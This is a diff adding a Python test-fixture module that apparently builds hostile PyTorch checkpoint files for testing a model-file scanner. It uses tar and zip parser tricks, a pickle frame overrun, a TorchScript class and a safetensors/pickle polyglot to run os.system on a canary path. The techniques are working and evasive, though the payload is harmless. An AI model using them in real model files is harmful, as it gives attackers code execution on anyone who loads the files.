@@ -1,0 +1,124 @@
+"""Files whose container torch reads otherwise than a reader that follows the format by the book:
+each builder returns bytes (no torch needed) whose payload would ``touch`` a canary if run."""
+
+from __future__ import annotations
+
+import io
+import struct
+import tarfile
+import zipfile
+from pathlib import Path
+
+from tests.hostile_folders import evil_pickle
+
+# a benign legacy/zip state-dict pickle body: {"w": tensor} is not needed to make torch run code
+BENIGN = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."
+
+
+def _zip(members: list[tuple[str, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in members:
+            zf.writestr(zipfile.ZipInfo(name), data)
+    return buf.getvalue()
+
+
+def v7_tar(canary: Path) -> bytes:
+    """A tar with no "ustar" magic whose first member is named like a pickle; torch.load's
+    legacy path opens it with tarfile and unpickles its ``storages`` member."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in (("\x80\x02}.", b""), ("storages", evil_pickle(canary))):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    raw = bytearray(buf.getvalue())
+    for start in range(0, len(raw) - 512, 512):
+        block = raw[start : start + 512]
+        if block[257:262] == b"ustar":  # each header: drop the magic, fix the checksum
+            block[257:265] = b"\0" * 8
+            block[148:156] = b" " * 8
+            block[148:155] = b"%06o\0" % sum(block)
+            raw[start : start + 512] = block
+    return bytes(raw)
+
+
+def frame_past_stop(canary: Path) -> bytes:
+    """A legacy checkpoint whose magic-number pickle declares a FRAME running past its STOP.
+    Following opcodes, five clean pickles; CPython reads the whole frame first, so torch's next
+    pickles start after it: the object pickle it runs is ``os.system``."""
+    magic = b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
+    fake = b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02}." + b"\x80\x02]."
+    body = magic + fake
+    first = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
+    rest = (
+        b"\x80\x02M\xe9\x03."  # protocol 1001
+        + b"\x80\x02}X\x0d\x00\x00\x00little_endian\x88s."  # sys_info
+        + evil_pickle(canary)  # the object
+        + b"\x80\x02]."  # storage keys
+    )
+    return first + rest
+
+
+def case_folded_twin(canary: Path) -> bytes:
+    """``a/data.pkl`` (benign) and ``a/DATA.PKL`` (evil): the same name to torch's zip reader."""
+    return _zip([("a/data.pkl", BENIGN), ("a/DATA.PKL", evil_pickle(canary))])
+
+
+def mixed_case_data_pkl(canary: Path) -> bytes:
+    """Only ``a/Data.pkl``: torch's reader finds it (it ignores case)."""
+    return _zip([("a/Data.pkl", evil_pickle(canary))])
+
+
+def duplicate_name(canary: Path) -> bytes:
+    return _zip([("a/data.pkl", BENIGN), ("a/data.pkl", evil_pickle(canary))])
+
+
+def nul_in_name(canary: Path) -> bytes:
+    return _zip([("a/data.pkl", BENIGN), ("a/data.pkl\x00.evil", evil_pickle(canary))])
+
+
+def two_directories(canary: Path) -> bytes:
+    """An evil archive followed by a benign one: zipfile reads the benign directory before the
+    end record, miniz the directory at the offset that record names."""
+    return _zip([("a/data.pkl", evil_pickle(canary))]) + _zip([("a/data.pkl", BENIGN)])
+
+
+def torchscript_with_allowed_class(canary: Path) -> bytes:
+    """A TorchScript archive whose pickle imports only allowlisted names: torch.load hands it
+    to torch.jit.load, whose code (a class named collections.Counter here) runs."""
+    code = f"import os\nclass Counter:\n    def __setstate__(self, s):\n        os.system('touch {canary}')\n"
+    return _zip(
+        [
+            ("archive/data.pkl", b"\x80\x02ccollections\nOrderedDict\n)R."),
+            ("archive/constants.pkl", b"\x80\x02)."),
+            ("archive/code/__torch__/collections.py", code.encode()),
+            ("archive/version", b"3\n"),
+        ]
+    )
+
+
+def safetensors_pickle_polyglot(canary: Path) -> bytes:
+    """A valid safetensors file (safe_open reads it) that is also a pickle: its length bytes are
+    MARK, SHORT_BINBYTES 7 (skipping to the JSON's 3rd byte), then STRING swallows the JSON up
+    to a raw newline, two EMPTY_DICTs close it, and the tensor's bytes are GLOBAL os.system."""
+    payload = f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()
+    n = 0x28 + 0x43 * 256 + 7 * 65536
+    size = len(payload)
+    head = f'{{"S":{{"dtype":"U8","shape":[{size}],"data_offsets":[0,{size}]}},"__metadata__":{{"k":"'
+    tail = '"\n}}'
+    text = (head + "x" * (n - len(head) - len(tail)) + tail).encode()
+    return struct.pack("<Q", n) + text + payload
+
+
+BUILDERS = {
+    "v7-tar": v7_tar,
+    "frame-past-stop": frame_past_stop,
+    "case-folded-twin": case_folded_twin,
+    "mixed-case-data-pkl": mixed_case_data_pkl,
+    "duplicate-name": duplicate_name,
+    "nul-in-name": nul_in_name,
+    "two-directories": two_directories,
+    "torchscript-allowed-class": torchscript_with_allowed_class,
+    "safetensors-pickle-polyglot": safetensors_pickle_polyglot,
+}
